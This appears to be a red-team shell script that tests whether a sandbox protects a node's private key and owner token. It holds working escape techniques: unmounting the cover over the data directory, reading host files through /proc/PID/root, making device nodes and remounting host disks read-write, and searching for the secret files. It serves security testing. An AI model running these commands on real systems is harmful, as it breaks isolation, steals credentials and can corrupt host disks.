# Attack 2: the node's key and owner token, from inside the sandbox.
# $DATA is the node's data directory, $NODE_PID the node's process.

# show LABEL FILE: print what FILE holds if it can be read.
show() {
    if v=$(cat "$2" 2>/dev/null) && [ -n "$v" ]; then
        echo "$1: $v"
    else
        echo "$1: refused"
    fi
}
show plain-token "$DATA/owner.token"
show plain-key "$DATA/node.key"

# What covers the data directory is a mount: lift it.
try "umount the cover of $DATA" umount -l "$DATA"
show uncovered-token "$DATA/owner.token"
show uncovered-key "$DATA/node.key"

# The host's /proc beneath the sandbox's own: the node's root, init's.
host_proc
for p in "$NODE_PID" 1; do
    show "proc-$p-root-token" "/proc/$p/root$DATA/owner.token"
    show "proc-$p-root-key" "/proc/$p/root$DATA/node.key"
done

# The host's disks: every block device the kernel lists, mounted again
# (the same superblock as the host's: read-write, as the host has it).
mnt=$(mktemp -d 2>/dev/null) || mnt=/tmp/redteam-disk
mkdir -p "$mnt" 2>/dev/null
while read -r major minor _ name; do
    case "$major" in '' | *[!0-9]*) continue ;; esac
    dev=/dev/$name
    if [ ! -b "$dev" ]; then
        dev=$mnt.dev
        mknod "$dev" b "$major" "$minor" 2>/dev/null
    fi
    if mount "$dev" "$mnt" 2>/dev/null || mount -o ro "$dev" "$mnt" 2>/dev/null; then
        echo "mount $name: ok"
        show "disk-$name-token" "$mnt$DATA/owner.token"
        show "disk-$name-key" "$mnt$DATA/node.key"
        umount -l "$mnt" 2>/dev/null
    else
        echo "mount $name: refused"
    fi
    rm -f "$mnt.dev" 2>/dev/null
done </proc/partitions
rmdir "$mnt" 2>/dev/null

# Anything else it can see: a walk of / (not the tree, where walking
# outside the intent is drift; not /proc and /sys).
timeout 15 find / -maxdepth 6 \( -path /proc -o -path /sys -o -path "$M" \) -prune \
    -o \( -name owner.token -o -name node.key \) -print 2>/dev/null |
    while read -r f; do
        show "found $f" "$f"
    done
echo done
